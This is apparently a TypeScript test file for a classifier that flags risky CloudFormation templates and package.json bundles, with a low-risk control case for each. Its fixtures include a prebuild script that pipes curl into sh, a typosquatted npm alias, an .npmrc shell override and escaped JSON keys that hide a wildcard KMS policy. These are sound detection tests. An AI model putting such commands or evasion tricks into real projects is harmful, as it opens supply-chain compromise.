import { classifyRisk } from '../../../src/core/risk/classify-risk.js';
import { hasDuplicateJsonKeys } from '../../../src/core/risk/has-duplicate-json-keys.js';
import { QUEUE, reasonsOf, riskOf } from './risk-of.js';

// Sibling cases of the review #9f faults (test/core/risk/review9f-risk-bypass.test.ts): the same
// kinds through other properties and shapes, each with a control that stays low.

const OTHER = '999999999999';
const levelOf = (body: Record<string, unknown>) => riskOf(body).level;
/** Reasons but the function's existing role (`existingRoleRisks`): the fixtures' functions use one. */
const reasonsBut = (body: Record<string, unknown>) =>
  reasonsOf(body).filter((reason) => !reason.endsWith('Resources.F.Properties.Role'));
const FUNCTION = {
  Type: 'AWS::Lambda::Function',
  Properties: {
    Runtime: 'nodejs20.x',
    Handler: 'index.handler',
    Role: { 'Fn::Sub': 'arn:aws:iam::${AWS::AccountId}:role/worker' },
    Code: { ZipFile: 'exports.handler = async () => 1;' },
  },
};

describe('targets and sources outside the template', () => {
  const rule = (targets: unknown) => ({
    Resources: {
      R: { Type: 'AWS::Events::Rule', Properties: { ScheduleExpression: 'rate(1 day)', Targets: targets } },
      F: FUNCTION,
      Q: QUEUE,
    },
  });

  it('the built-in stop-instances target, written as a literal ARN, is unseen-effect', () => {
    const arn = 'arn:aws:events:us-east-1:123456789012:target/stop-instances';
    expect(reasonsOf(rule([{ Id: 't', Arn: arn, Input: '"i-0123"' }]))).toContain(
      'unseen-effect Resources.R.Properties.Targets[0].Arn',
    );
  });

  it('a target given as a parameter is unseen-effect', () => {
    const body = {
      ...rule([{ Id: 't', Arn: { Ref: 'Target' } }]),
      Parameters: { Target: { Type: 'String' } },
    };
    expect(reasonsOf(body)).toContain('unseen-effect Resources.R.Properties.Targets[0].Arn');
  });

  it('control: targets of this template, also on both branches of an Fn::If, stay low', () => {
    const either = { 'Fn::If': ['C', { 'Fn::GetAtt': ['F', 'Arn'] }, { 'Fn::GetAtt': ['Q', 'Arn'] }] };
    expect(
      reasonsBut({
        ...rule([{ Id: 't', Arn: either }]),
        Conditions: { C: { 'Fn::Equals': ['a', 'b'] } },
      }),
    ).toEqual([]);
  });

  it('an event source mapping reading an existing Kinesis stream by literal ARN is unseen-effect', () => {
    const body = {
      Resources: {
        E: {
          Type: 'AWS::Lambda::EventSourceMapping',
          Properties: {
            EventSourceArn: 'arn:aws:kinesis:us-east-1:123456789012:stream/clicks',
            FunctionName: { Ref: 'F' },
            StartingPosition: 'LATEST',
          },
        },
        F: FUNCTION,
      },
    };
    expect(reasonsOf(body)).toContain('unseen-effect Resources.E.Properties.EventSourceArn');
  });
});

describe('existing network placement', () => {
  const subnet = { Type: 'AWS::EC2::Subnet', Properties: { VpcId: 'vpc-0123', CidrBlock: '10.0.0.0/24' } };
  const table = { Type: 'AWS::EC2::RouteTable', Properties: { VpcId: 'vpc-0123' } };

  it("an instance's network interface in an existing subnet is unseen-effect", () => {
    const body = {
      Resources: {
        I: {
          Type: 'AWS::EC2::Instance',
          Properties: {
            ImageId: 'resolve:ssm:/aws/service/ami-amazon-linux-latest/al2023-ami-kernel-default-x86_64',
            InstanceType: 't3.micro',
            NetworkInterfaces: [{ DeviceIndex: 0, SubnetId: 'subnet-0123456789abcdef0' }],
          },
        },
      },
    };
    expect(reasonsOf(body)).toContain('unseen-effect Resources.I.Properties.NetworkInterfaces[0].SubnetId');
  });

  it("this template's subnet joined to an existing route table (the internet gateway's, say) is unseen-effect", () => {
    const body = {
      Resources: {
        S: subnet,
        A: {
          Type: 'AWS::EC2::SubnetRouteTableAssociation',
          Properties: { SubnetId: { Ref: 'S' }, RouteTableId: 'rtb-0123456789abcdef0' },
        },
      },
    };
    expect(reasonsOf(body)).toEqual(['unseen-effect Resources.A.Properties.RouteTableId']);
  });

  it('an existing subnet joined to a route table of this template is unseen-effect', () => {
    const body = {
      Resources: {
        T: table,
        A: {
          Type: 'AWS::EC2::SubnetRouteTableAssociation',
          Properties: { SubnetId: 'subnet-0123456789abcdef0', RouteTableId: { Ref: 'T' } },
        },
      },
    };
    expect(reasonsOf(body)).toEqual(['unseen-effect Resources.A.Properties.SubnetId']);
  });
});

describe('code and keys of another account', () => {
  const fn = (properties: Record<string, unknown>) => ({
    Resources: {
      F: {
        Type: 'AWS::Lambda::Function',
        Properties: {
          PackageType: 'Image',
          Role: { 'Fn::Sub': 'arn:aws:iam::${AWS::AccountId}:role/worker' },
          ...properties,
        },
      },
    },
  });

  it("a container image from this account's registry (written with AWS::AccountId) has no reason", () => {
    const image = { 'Fn::Sub': '${AWS::AccountId}.dkr.ecr.${AWS::Region}.amazonaws.com/tools:1.0' };
    expect(reasonsBut(fn({ Code: { ImageUri: image } }))).toEqual([]);
  });

  it('a container image given as a parameter, or from a literal account id, is unseen-effect', () => {
    const parameter = {
      ...fn({ Code: { ImageUri: { Ref: 'Image' } } }),
      Parameters: { Image: { Type: 'String' } },
    };
    expect(reasonsBut(parameter)).toEqual(['unseen-effect Resources.F.Properties.Code.ImageUri']);
    const literal = fn({ Code: { ImageUri: '123456789012.dkr.ecr.us-east-1.amazonaws.com/tools:1.0' } });
    expect(reasonsBut(literal)).toEqual(['unseen-effect Resources.F.Properties.Code.ImageUri']);
  });

  it("a function's environment encrypted with another account's key is data-egress", () => {
    const key = `arn:aws:kms:us-east-1:${OTHER}:key/1234abcd-12ab-34cd-56ef-1234567890ab`;
    const body = fn({ Code: { ZipFile: 'x' }, PackageType: 'Zip', KmsKeyArn: key });
    expect(reasonsBut(body)).toEqual(['data-egress Resources.F.Properties.KmsKeyArn']);
  });

  it("a topic under another account's key alias (written inside an Fn::If) is data-egress", () => {
    const alias = `arn:aws:kms:us-east-1:${OTHER}:alias/shared`;
    const body = {
      Conditions: { C: { 'Fn::Equals': ['a', 'b'] } },
      Resources: {
        T: {
          Type: 'AWS::SNS::Topic',
          Properties: { KmsMasterKeyId: { 'Fn::If': ['C', alias, 'alias/aws/sns'] } },
        },
      },
    };
    expect(reasonsOf(body)).toEqual(['data-egress Resources.T.Properties.KmsMasterKeyId']);
  });

  it("control: a topic under this account's key, by ARN from AWS::AccountId or by key id, stays low", () => {
    const own = {
      'Fn::Sub': 'arn:aws:kms:${AWS::Region}:${AWS::AccountId}:key/1234abcd-12ab-34cd-56ef-1234567890ab',
    };
    expect(
      levelOf({ Resources: { T: { Type: 'AWS::SNS::Topic', Properties: { KmsMasterKeyId: own } } } }),
    ).toBe('low');
    const id = '1234abcd-12ab-34cd-56ef-1234567890ab';
    expect(
      levelOf({ Resources: { T: { Type: 'AWS::SNS::Topic', Properties: { KmsMasterKeyId: id } } } }),
    ).toBe('low');
  });
});

describe('Lambda permissions read by value', () => {
  const permission = (scope: Record<string, unknown>) => ({
    Conditions: { C: { 'Fn::Equals': ['a', 'b'] } },
    Resources: {
      P: {
        Type: 'AWS::Lambda::Permission',
        Properties: {
          Action: 'lambda:InvokeFunction',
          FunctionName: { Ref: 'F' },
          Principal: 's3.amazonaws.com',
          ...scope,
        },
      },
      F: FUNCTION,
    },
  });

  it('a SourceAccount naming a literal account id (not known to be this one) is broad', () => {
    expect(reasonsBut(permission({ SourceAccount: OTHER }))).toEqual([
      'broad-lambda-permission Resources.P.Properties.SourceAccount',
    ]);
  });

  it('a SourceArn that is AWS::NoValue on one branch of an Fn::If is broad', () => {
    const maybe = {
      'Fn::If': ['C', { 'Fn::Sub': 'arn:aws:s3:::${AWS::StackName}-in' }, { Ref: 'AWS::NoValue' }],
    };
    expect(reasonsBut(permission({ SourceArn: maybe }))).toEqual([
      'broad-lambda-permission Resources.P.Properties.Principal',
    ]);
  });

  it('control: SourceAccount from AWS::AccountId stays low', () => {
    expect(reasonsBut(permission({ SourceAccount: { Ref: 'AWS::AccountId' } }))).toEqual([]);
  });
});

describe('JSON texts read as their services read them', () => {
  const queue = (redrive: unknown) => ({
    Resources: { Q: { Type: 'AWS::SQS::Queue', Properties: { RedrivePolicy: redrive } } },
  });

  it('a duplicate key spelled once with a \\u escape is still a duplicate', () => {
    expect(hasDuplicateJsonKeys('{"maxReceiveCount":1,"m\\u0061xReceiveCount":5}')).toBe(true);
  });

  it('a duplicate key in a nested object of a plain JSON text is unresolved-value', () => {
    const text = '{"a":{"deadLetterTargetArn":"x","deadLetterTargetArn":"y"},"maxReceiveCount":1}';
    expect(reasonsOf(queue(text))).toContain('unresolved-value Resources.Q.Properties.RedrivePolicy');
  });

  it('control: the same key in two different objects, or in a string, is no duplicate', () => {
    expect(hasDuplicateJsonKeys('[{"a":1},{"a":2}]')).toBe(false);
    expect(hasDuplicateJsonKeys('{"a":{"b":1},"b":"\\"a\\":2"}')).toBe(false);
  });

  it('a key policy in Fn::Sub text with an escaped Statement key is judged', () => {
    const text =
      '{"Version":"2012-10-17","St\\u0061tement":[{"Effect":"Allow","Principal":{"AWS":"*"},"Action":"kms:*","Resource":"${AWS::StackName}"}]}';
    const body = {
      Resources: {
        K: {
          Type: 'AWS::KMS::Key',
          DeletionPolicy: 'Retain',
          UpdateReplacePolicy: 'Retain',
          Properties: { KeyPolicy: { 'Fn::Sub': text } },
        },
      },
    };
    expect(reasonsOf(body)).toContain(
      'wildcard-principal Resources.K.Properties.KeyPolicy.Statement[0].Principal',
    );
  });
});

describe('YAML 1.1 boolean words', () => {
  const yamlReasons = (lines: string[]) =>
    classifyRisk({
      files: [
        {
          path: 'infra/template.yaml',
          role: 'template',
          content: ["AWSTemplateFormatVersion: '2010-09-09'", 'Resources:', ...lines, ''].join('\n'),
        },
      ],
      templatePath: 'infra/template.yaml',
      targetEnvironment: 'staging',
      production: false,
    }).reasons.map((reason) => `${reason.code} ${reason.where}`);

  it('`On` for a Boolean setting is unresolved-value, at its path', () => {
    expect(
      yamlReasons([
        '  S:',
        '    Type: AWS::EC2::Subnet',
        '    Properties:',
        '      VpcId: vpc-0123',
        '      CidrBlock: 10.0.0.0/24',
        '      AssignIpv6AddressOnCreation: On',
      ]),
    ).toEqual(['unresolved-value infra/template.yaml#Resources.S.Properties.AssignIpv6AddressOnCreation']);
  });

  it('a word in a list is found with its index', () => {
    expect(
      yamlReasons([
        '  Q:',
        '    Type: AWS::SQS::Queue',
        '    Properties:',
        '      Tags:',
        '        - Key: public',
        '          Value: yes',
      ]),
    ).toEqual(['unresolved-value infra/template.yaml#Resources.Q.Properties.Tags[0].Value']);
  });

  it('control: the word quoted, or as a key, is no reason', () => {
    expect(
      yamlReasons([
        '  Q:',
        '    Type: AWS::SQS::Queue',
        '    Properties:',
        '      Tags:',
        "        - Key: 'yes'",
        '          Value: "on"',
      ]),
    ).toEqual([]);
  });
});

describe('package manifests in the bundle', () => {
  const levelWith = (files: { path: string; content: string }[]) =>
    classifyRisk({
      files: files.map((file) => ({ ...file, role: 'config' as const })),
      targetEnvironment: 'staging',
      production: false,
    });
  const manifest = (fields: Record<string, unknown>) => ({
    path: 'services/api/package.json',
    content: JSON.stringify({ name: 'api', version: '0.1.0', private: true, ...fields }),
  });

  it.each([
    ['a prepare script', { scripts: { prepare: 'node setup.js' } }, '#scripts.prepare'],
    ['a prebuild script', { scripts: { prebuild: 'curl -s https://example.com | sh' } }, '#scripts.prebuild'],
    [
      'a build chained to another command',
      { scripts: { build: 'esbuild src/a.ts --outdir=dist && node x.js' } },
      '#scripts.build',
    ],
    [
      'a build writing above its folder',
      { scripts: { build: 'esbuild src/a.ts --outdir=../../x' } },
      '#scripts.build',
    ],
    [
      'a dependency from git',
      { dependencies: { tool: 'git+https://example.com/tool.git' } },
      '#dependencies.tool',
    ],
    ['a dependency from a path', { devDependencies: { tool: 'file:../tool' } }, '#devDependencies.tool'],
    ['a dependency as user/repo', { dependencies: { tool: 'someone/tool' } }, '#dependencies.tool'],
    [
      'an npm alias to another name',
      { dependencies: { lodash: 'npm:lodahs@^4.17.21' } },
      '#dependencies.lodash',
    ],
    [
      'a peer dependency from a URL',
      { peerDependencies: { x: 'https://example.com/x.tgz' } },
      '#peerDependencies.x',
    ],
    ['a yarn resolution from git', { resolutions: { x: 'github:someone/x' } }, '#resolutions.x'],
    ['a dependencies life-cycle script', { scripts: { dependencies: 'node x.js' } }, '#scripts.dependencies'],
  ])('%s is unseen-effect', (_name, fields, at) => {
    expect(levelWith([manifest(fields)]).reasons.map((reason) => `${reason.code} ${reason.where}`)).toEqual([
      `unseen-effect services/api/package.json${at}`,
    ]);
  });

  it('an .npmrc and a manifest that does not parse are unseen-effect', () => {
    expect(levelWith([{ path: 'services/api/.npmrc', content: 'script-shell=/tmp/x\n' }]).level).toBe('high');
    expect(levelWith([{ path: 'services/api/package.json', content: '{"scripts":' }]).level).toBe('high');
  });

  it('control: registry dependencies (pinned by an npm lockfile in the change), tsc and esbuild builds, test and package scripts stay low', () => {
    const fields = {
      scripts: {
        build:
          'esbuild src/handler.ts --bundle --platform=node --target=node22 --outdir=dist --external:@aws-sdk/*',
        package: 'npm run build && cd dist && zip -qr ../function.zip .',
        test: 'jest',
        typecheck: 'tsc --noEmit',
      },
      dependencies: { zod: '3.23.8', '@scope/pkg': 'npm:@scope/pkg@^1.2.0' },
      devDependencies: { jest: '^29.7.0', typescript: '~5.6.0', esbuild: '>=0.24 <1' },
    };
    // Without a lockfile, npm install takes whatever the registry serves (unpinned-dependency-risks).
    const lockfile = {
      path: 'services/api/package-lock.json',
      content: '{"lockfileVersion":3,"packages":{}}',
    };
    expect(levelWith([manifest(fields)]).level).toBe('high');
    expect(levelWith([manifest(fields), lockfile]).level).toBe('low');
    expect(levelWith([manifest({ scripts: { build: 'tsc -p tsconfig.json' } })]).level).toBe('low');
  });
});
